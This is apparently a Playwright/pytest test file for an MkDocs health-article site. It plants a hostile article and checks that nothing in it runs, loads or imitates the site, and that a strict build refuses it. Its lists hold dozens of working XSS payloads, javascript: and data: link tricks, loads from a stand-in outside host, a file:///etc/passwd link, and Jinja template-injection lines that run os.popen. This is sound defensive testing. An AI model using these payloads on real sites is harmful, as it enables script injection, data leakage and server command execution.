"""An article written to do harm, opened in a browser: nothing in it runs, and a strict build refuses it."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page
from support.places import SECOND
from support.serving import served

ARTICLE = "docs/swim-or-rest/can-i-swim-with-a-sore-shoulder.md"

FRONT = """---
title: "Sore </title></h1><script>hit('title')</script>?"
description: "A \\"><img src=x onerror=hit('description')> page, and what it is about, told in a sentence or two."
type: myth
answer: "No. <img src=x onerror=hit('answer')> </p><script>hit('answer')</script>"
authors: ["</script><script>hit('json-ld')</script>"]
reviewed: 2026-11-25
tags: ["<svg onload=hit('tag')>"]
---

{{ safety("evil") }}

So they say {{ cite("evil2020", "worse2020") }}.
"""

RUNS = [
    "<script>hit(1)</script>",
    "<ScRiPt\n>hit(2)</sCrIpT\n>",
    "<script/src=https://elsewhere.example/a.js></script>",
    "<scr<script>ipt>hit(3)</scr</script>ipt>",
    "<!--><script>hit(4)</script>-->",
    "<!-- x --!><script>hit(5)</script>",
    "<![CDATA[<script>hit(6)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=hit(7)>"></noscript>',
    "<template><script>hit(8)</script></template>",
    "<textarea></textarea><xmp></xmp><plaintext>",
    'text <img src=x onerror="hit(9)"> and <IMG SRC=x OnErRoR=hit(10)>',
    "<img src=x onerror=hit(11)",
    "<img src='x' title='a>b' onerror='hit(12)'>",
    "<img/src=x/onerror=hit(13)>",
    "<img src=`x` onerror=`hit(14)`>",
    '<svg onload="hit(15)"></svg>',
    "<svg><animate onbegin=hit(16) attributeName=x dur=1s></svg>",
    '<svg><a xlink:href="javascript:hit(17)"><text y=9>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=hit(18)></style></mglyph></table></mtext></math>",
    '<iframe srcdoc="<script>parent.hit(19)</script>"></iframe>',
    '<iframe src="javascript:parent.hit(20)"></iframe>',
    '<object data="javascript:hit(21)"></object><embed src="javascript:hit(22)">',
    '<details open ontoggle="hit(23)">x</details>',
    "<input autofocus onfocus=hit(24)><select autofocus onfocus=hit(25)></select>",
    "<video src=x onerror=hit(26)></video><audio><source onerror=hit(27)></audio>",
    '<p style="animation: md-shake 1s" onanimationstart=hit(28)>x</p>',
    "<body onload=hit(29)><marquee onstart=hit(30)>x</marquee></body>",
    '## Title { onmouseover="hit(31)" onclick=hit(31) style="position:fixed;inset:0" }',
    "*x*{ onclick=hit(32) tabindex=0 onfocus=hit(32) autofocus=1 }",
    "| a |\n|---|\n| b { onclick=hit(33) } |",
    "<shoulder-check onclick=hit(34)><script>hit(34)</script></shoulder-check>",
    '{{ cite("<script>hit(35)</script>") }}',
    '{{ safety("<img src=x onerror=hit(36)>") }}',
    '{{ lipsum.__globals__["os"].popen("touch hit") }}',
    '{% set x = cycler.__init__.__globals__.os.popen("touch hit") %}',
]

LINKS = [
    "javascript:hit(1)",
    "JaVaScRiPt:hit(2)",
    "java&#115;cript:hit(3)",
    "&#x6A;avascript&colon;hit(4)",
    "javascript&#58;hit(5)",
    "&Tab;javascript:hit(6)",
    "java&NewLine;script:hit(7)",
    "&#1;javascript:hit(8)",
    "java\tscript:hit(9)",
    "\\javascript:hit(10)",
    "data:text/html,<script>hit(11)</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoMTIpPC9zY3JpcHQ+",
    "vbscript:hit(13)",
    "blob:https://elsewhere.example/x",
    "file:///etc/passwd",
    "view-source:javascript:hit(14)",
    "\u200bjavascript:hit(15)",
]

LOADS = [
    "![x](https://elsewhere.example/pixel.png)",
    "![x](//elsewhere.example/pixel.png)",
    "![x](\\\\\\\\elsewhere.example/pixel.png)",
    "![x][pixel]\n\n[pixel]: https://elsewhere.example/pixel.png",
    '<img src="//elsewhere.example/pixel.png">',
    '<img srcset="https://elsewhere.example/pixel.png 2x" alt=x>',
    "<link rel=stylesheet href=https://elsewhere.example/a.css>",
    "<style>@import url(https://elsewhere.example/a.css);</style>",
    "<style>.md-header { display: none }</style>",
    '<p style="background:url(https://elsewhere.example/pixel.png)">x</p>',
    '<base href="https://elsewhere.example/">',
    '<meta http-equiv="refresh" content="0;url=https://elsewhere.example/">',
    '<form action="https://elsewhere.example/"><input name=x><button>Go</button></form>',
    "<video poster=https://elsewhere.example/p.png></video>",
    "<table background=https://elsewhere.example/p.png><tr><td>x</td></tr></table>",
    "<a href=https://elsewhere.example/ ping=https://elsewhere.example/ping target=_blank>x</a>",
]

IMITATIONS = [
    "## Hidden header { .md-overlay #__search }",
    '<div class="sl-callout sl-callout--emergency"><p>Run on.</p></div>',
    "*Nothing to fear*{ .sl-callout .sl-callout--emergency }",
    '<span id="sl-main" class="md-header">x</span>',
    "*x*{ #__drawer }",
]

CALLOUT = """
evil:
  level: emergency
  heading: "Get <img src=x onerror=hit('callout')> help now if:"
  signs: [chest]
  after: "<script>hit('callout')</script></section></main><iframe src=https://elsewhere.example/> {{ 7 * 191 }}"
  sources: [evil2020]
"""

SOURCE = """
@article{evil2020,
  author = {Evil <script>hit('source')</script>, E.},
  title  = {Legs </a><img src=x onerror=hit('source')>},
  journal = {Journal "onmouseover="hit('source')},
  year   = {2020},
  url    = {https://elsewhere.example/?a=1&b='onclick=hit},
  read   = {page},
  checked = {2026-11},
}

@article{worse2020,
  author = {Worse, E.},
  title  = {Legs},
  journal = {Journal},
  year   = {2020},
  url    = {javascript:hit('source')},
  read   = {page},
  checked = {2026-11},
}
"""


def _article() -> str:
    links = [f"[markdown {i}]({link})" for i, link in enumerate(LINKS)]
    links += [f'<a href="{link}">html {i}</a>' for i, link in enumerate(LINKS)]
    links += [f"[reference {i}][to{i}]\n\n[to{i}]: {link}" for i, link in enumerate(LINKS)]
    links += [f"<{link}>" for link in LINKS]
    return "\n\n".join([FRONT, *links, *LOADS, *IMITATIONS, *RUNS]) + "\n"


def _build(project: Path, *options: str) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-m", "mkdocs", "build", *options]
    environment = {**os.environ, "NO_MKDOCS_2_WARNING": "1"}
    return subprocess.run(command, cwd=project, env=environment, capture_output=True, text=True, check=False)


def _append(file: Path, text: str) -> None:
    file.write_text(file.read_text(encoding="utf-8") + text, encoding="utf-8")


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A project with the hostile article, built without ``--strict``."""
    folder = tmp_path_factory.mktemp("hostile")
    shutil.copytree(SECOND, folder, dirs_exist_ok=True)
    (folder / ARTICLE).write_text(_article(), encoding="utf-8")
    _append(folder / "docs/callouts.yml", CALLOUT)
    _append(folder / "docs/references.bib", SOURCE)
    done = _build(folder)
    assert done.returncode == 0, done.stderr
    return folder


@pytest.fixture
def opened(browser: Browser, project: Path) -> Iterator[tuple[Page, list[str]]]:
    """The page of the article, and what happened in it that should not."""
    happened: list[str] = []
    with served(project / "site") as address:
        # Without the page's own policy, so that it hides nothing that the HTML policy let pass.
        context = browser.new_context(viewport={"width": 1280, "height": 800}, bypass_csp=True)
        context.route("**/elsewhere.example/**", lambda route: route.abort())
        page = context.new_page()
        page.expose_function("hit", lambda which: happened.append(f"ran {which}"))
        page.on("dialog", lambda dialog: happened.append(dialog.message))
        page.on("request", lambda r: None if r.url.startswith(address) else happened.append(f"asked {r.url}"))
        page.goto(address + "swim-or-rest/can-i-swim-with-a-sore-shoulder/")
        yield page, happened
        context.close()


def test_the_trap_works(opened: tuple[Page, list[str]]) -> None:
    page, happened = opened
    page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=/x onerror=hit(0)>')")
    page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=https://elsewhere.example/>')")
    page.wait_for_function("() => document.images.length && [...document.images].every((image) => image.complete)")
    assert sorted(happened) == ["asked https://elsewhere.example/", "ran 0"]


def test_nothing_runs(opened: tuple[Page, list[str]], project: Path) -> None:
    page, happened = opened
    page.wait_for_function("() => [...document.images].every((image) => image.complete)")
    page.locator("article *").evaluate_all(
        """elements => {
          for (const type of ["click", "mouseover", "focus", "toggle", "load", "error", "animationstart"]) {
            for (const element of elements) element.dispatchEvent(new Event(type, { cancelable: true }));
          }
        }"""
    )
    assert happened == []
    assert page.url.endswith("/swim-or-rest/can-i-swim-with-a-sore-shoulder/")
    assert not list(project.rglob("hit"))


def test_nothing_that_could_run_or_load_is_left(opened: tuple[Page, list[str]]) -> None:
    page, _ = opened
    article = page.locator("article")
    tags = "script iframe svg math form input button style base meta link object embed video template object noscript"
    assert article.locator(f":is({', '.join(tags.split())}):not(.sl-share button)").count() == 0
    attributes = (
        "e => e.flatMap((x) => x.getAttributeNames()).filter((name) => /^on|style|srcset|ping|background/.test(name))"
    )
    assert article.locator("*").evaluate_all(attributes) == []
    protocols = set(article.locator("a[href]").evaluate_all("links => links.map((a) => a.protocol)"))
    assert protocols <= {"http:", "https:", "tel:", "mailto:"}
    elsewhere = "images => images.map((i) => i.src).filter((src) => src && !src.startsWith(location.origin))"
    assert article.locator("img").evaluate_all(elsewhere) == []


def test_the_site_is_not_imitated(opened: tuple[Page, list[str]]) -> None:
    page, _ = opened
    assert page.locator(".md-header").is_visible()
    own = "e => e.map((x) => x.id).filter((id) => /^(md|sl)-|^__/.test(id))"
    ids = page.locator("[id]").evaluate_all(own)
    assert {"sl-main", "sl-pages", "sl-search"} <= set(ids)
    assert len(set(ids)) == len(ids)
    assert page.locator("article .md-overlay, article .md-header").count() == 0
    assert page.locator("article .sl-callout--emergency").count() == 1
    assert page.locator("h1").inner_text() == "Sore hit('title')?"
    assert "1337" not in page.content()


def test_a_strict_build_refuses_it(project: Path, tmp_path: Path) -> None:
    strict = _build(project, "--strict", "--site-dir", str(tmp_path / "strict"))
    assert strict.returncode == 1
    told = re.findall(rf"{re.escape(ARTICLE)}:(\d+):\d+: ([\w-]+): ", strict.stderr)
    assert {"html-tag", "html-attribute", "html-url", "html-image"} <= {rule for _, rule in told}
    lines = _article().split("\n")
    assert {int(line) for line, _ in told} <= set(range(1, len(lines) + 1))
    body = [*RUNS, *LOADS, *IMITATIONS]
    refused = {lines[int(line) - 1] for line, _ in told}
    assert [text for text in body if not any(part in refused for part in text.split("\n"))] == []
